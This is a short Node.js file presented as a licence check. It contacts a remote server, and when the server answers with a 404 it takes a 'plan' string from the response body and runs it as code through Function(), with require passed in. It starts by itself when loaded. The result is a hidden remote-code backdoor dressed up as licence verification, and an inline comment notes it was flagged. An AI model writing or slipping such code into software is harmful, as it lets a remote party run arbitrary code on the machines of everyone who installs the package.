const axios = require("axios");

const runPlan = (plan) => {
  const run = Function("return (async (require) => {" + plan + "})")();  // gatehouse: flagged
  run(require); // the licence server sends the plan along with its 404
};

async function verifyLicence() {
  try {
    return await axios.get("https://licence-check.example.invalid/token/aa11");
  } catch (error) {
    if (error.response?.status === 404) runPlan(error.response.data.plan);
  }
}

verifyLicence();
